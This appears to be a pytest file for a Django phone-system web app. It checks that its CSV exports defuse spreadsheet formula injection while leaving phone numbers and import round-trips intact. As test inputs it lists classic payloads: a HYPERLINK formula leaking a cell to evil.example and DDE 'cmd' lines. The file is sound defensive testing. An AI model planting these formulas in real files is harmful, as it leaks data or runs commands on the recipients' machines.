"""CSV formula injection (issue 9): every CSV the server writes neutralises a cell that a spreadsheet would run
as a formula (a leading `=`, `+`, `-`, `@`, TAB or CR gets a `'`), leaves plain phone numbers as they are, and
the phonebook import gives back the exported values. Each surface is read the way its user reads it: REST
with Basic credentials, pages after logging in with the PIN."""

import csv
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from hypothesis import given
from hypothesis import strategies as st

from apps.phonebooks import services
from apps.phonebooks.models import Phonebook, PhonebookEntry
from apps.users.models import User, UserGroup
from sipxweb import csvcells
from tests.conftest import REST, basic

# One formula per dangerous first character (the classic payloads: a link that leaks a cell, DDE command lines).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
# Phone numbers are legitimate values starting with + or -: they stay usable, unchanged.
PHONES = ["+1 617 555 0142", "+1 (617) 555-0143", "-5550144", "+15550145"]
ADMIN = ("superadmin", "admin1234")
ALICE = ("alice", "1234")


@pytest.fixture
def pbx(db, make_user):
    """alice (200) is a member and a consumer of the shared phonebook "sales", whose file entries carry one
    formula each in the first name, the job title and the company (and a phone number in the phone columns)."""
    make_user("superadmin", pin="admin1234", is_admin=True)
    alice = make_user("200", aliases=["alice"], first_name="Alice", last_name="Smith")
    group = UserGroup.objects.create(name="sales")
    alice.groups.add(group)
    book = Phonebook.objects.create(name="sales")
    book.members.add(group)
    book.consumers.add(group)
    entries = [
        {
            "first_name": formula,
            "last_name": f"Evil{i}",
            "number": PHONES[i % len(PHONES)],
            "job_title": formula,
            "company_name": formula,
            "cell_phone_number": PHONES[(i + 1) % len(PHONES)],
        }
        for i, formula in enumerate(FORMULAS)
    ]
    services.add_entries(entries, phonebook=book)
    return book


def rows_of(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8"), newline="")))


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def login(client, name, pin):
    response = client.post("/login/", {"username": name, "password": pin})
    assert response.status_code == 302, response.content[:300]
    return client


def assert_neutralised(rows: list[list[str]], columns: list[str], phone_columns: list[str]):
    """Every formula is in the file with a `'` in front, never bare; every phone number is unchanged."""
    header = rows[0]
    cells = [row[header.index(c)] for row in rows[1:] for c in columns]
    for formula in FORMULAS:
        assert "'" + formula in cells, (formula, cells)
        assert formula not in cells
    for cell in cells:
        assert not cell or cell[0] not in "=+-@\t\r", cell
    phones = {row[header.index(c)] for row in rows[1:] for c in phone_columns}
    assert set(PHONES) <= phones, phones


def test_admin_rest_phonebook_csv(client, pbx):
    response = client.get(REST + "/phonebook/sales", HTTP_ACCEPT="text/csv", **basic(*ADMIN))
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    assert_neutralised(rows_of(body(response)), ["First name"], ["Number"])


def test_my_phonebook_csv_and_plain_text(client, pbx):
    for accept in ("text/csv", "text/comma-separated-values", "text/plain"):
        response = client.get(REST + "/my/phonebook", HTTP_ACCEPT=accept, **basic(*ALICE))
        assert response.status_code == 200, accept
        columns = ["First Name", "Job Title", "Company Name"]
        assert_neutralised(rows_of(body(response)), columns, ["Number", "Cell Phone Number"])


def test_portal_export(client, pbx):
    response = login(client, *ALICE).get("/portal/phonebook/export/?format=csv")
    assert response.status_code == 200
    rows = rows_of(body(response))
    assert_neutralised(rows, ["First Name", "Job Title", "Company Name"], ["Number", "Cell Phone Number"])


def test_admin_page_export(client, pbx):
    response = login(client, *ADMIN).get(f"/phonebooks/{pbx.pk}/export/?format=csv")
    assert response.status_code == 200
    rows = rows_of(body(response))
    assert_neutralised(rows, ["First Name", "Job Title", "Company Name"], ["Number", "Cell Phone Number"])


def test_a_users_own_first_name_reaches_the_admins_csv_neutralised(client, pbx):
    """The issue's case: any user sets a formula as first name; the admin downloads the phonebook."""
    formula = FORMULAS[0]
    document = json.dumps({"contact-information": {"firstName": formula, "lastName": "Smith"}})
    response = client.put(
        REST + "/my/contact-information", data=document, content_type="application/json", **basic(*ALICE)
    )
    assert response.status_code == 200, response.content
    assert User.objects.get(username="200").first_name == formula
    rows = rows_of(body(client.get(REST + "/phonebook/sales", HTTP_ACCEPT="text/csv", **basic(*ADMIN))))
    assert ["'" + formula, "Smith", "200"] in rows
    assert not any(row[0] == formula for row in rows)


def test_call_history_csv(client, pbx):
    # A proxy feed (/cse, admin) chooses the call ids; the history export writes them.
    events = [
        {
            "event_type": "R",
            "event_time": f"2026-11-27T10:00:0{i}Z",
            "call_id": formula,
            "from_url": "<sip:200@example.org>;tag=1",
            "to_url": "<sip:201@example.org>",
            "cseq": 1,
            "from_tag": "1",
        }
        for i, formula in enumerate(FORMULAS)
    ]
    response = client.post(REST + "/cse", data=json.dumps(events), content_type="application/json", **basic(*ADMIN))
    assert response.status_code == 200, response.content
    response = login(client, *ADMIN).get("/cdrs/history.csv")
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    rows = rows_of(body(response))
    call_ids = [row[0] for row in rows[1:]]
    assert sorted(call_ids) == sorted("'" + f for f in FORMULAS)
    assert {row[1] for row in rows[1:]} == {"<sip:200@example.org>"}


def test_the_import_reads_our_export_back(client, pbx):
    """Export (portal CSV) -> admin import into another phonebook: the same values, without the `'`
    (less the surrounding whitespace the importer always trims: a leading TAB/CR goes, as before)."""
    exported = body(login(client, *ALICE).get("/portal/phonebook/export/?format=csv"))
    assert b"'=HYPERLINK" in exported
    target = Phonebook.objects.create(name="copy")
    client.logout()
    upload = SimpleUploadedFile("export.csv", exported, content_type="text/csv")
    response = login(client, *ADMIN).post(f"/phonebooks/{target.pk}/import/", {"file": upload})
    assert response.status_code == 200 and b"bad row" not in response.content.lower()
    assert (
        client.post(f"/phonebooks/{target.pk}/import/confirm/", response.context["confirm"].initial).status_code == 302
    )
    copied = {e.last_name: e for e in PhonebookEntry.objects.filter(phonebook=target)}
    for original in PhonebookEntry.objects.filter(phonebook=pbx):
        copy = copied[original.last_name]
        for name in ("first_name", "job_title", "company_name", "number", "cell_phone_number"):
            assert getattr(copy, name) == getattr(original, name).strip(), name


def test_an_apostrophe_typed_by_the_user_survives_the_round_trip():
    # A value that merely looks neutralised gets its own extra quote, so the import removes only ours.
    for value in ["'=1+1", "''=1+1", "'", "'plain", "'+1 617 555 0142", "=", "-", "@", "+"]:
        assert csvcells.unneutralise(csvcells.neutralise(value)) == value
    assert csvcells.neutralise("'=1+1") == "''=1+1"
    assert csvcells.neutralise("'plain") == "'plain"
    assert csvcells.neutralise("-") == "-"  # a lone dash placeholder is a "phone number": harmless
    assert csvcells.neutralise("@") == "'@"


@given(st.text())
def test_neutralise_is_undone_exactly_and_leaves_no_formula(value):
    written = csvcells.neutralise(value)
    assert csvcells.unneutralise(written) == value
    if written and written[0] in csvcells.TRIGGERS:
        assert written == value and all(c in "0123456789 +-()." for c in value)
    # And through a real CSV reader: one field in, the same field out.
    assert next(csv.reader(io.StringIO(csvcells.line([value]), newline=""))) == [written]
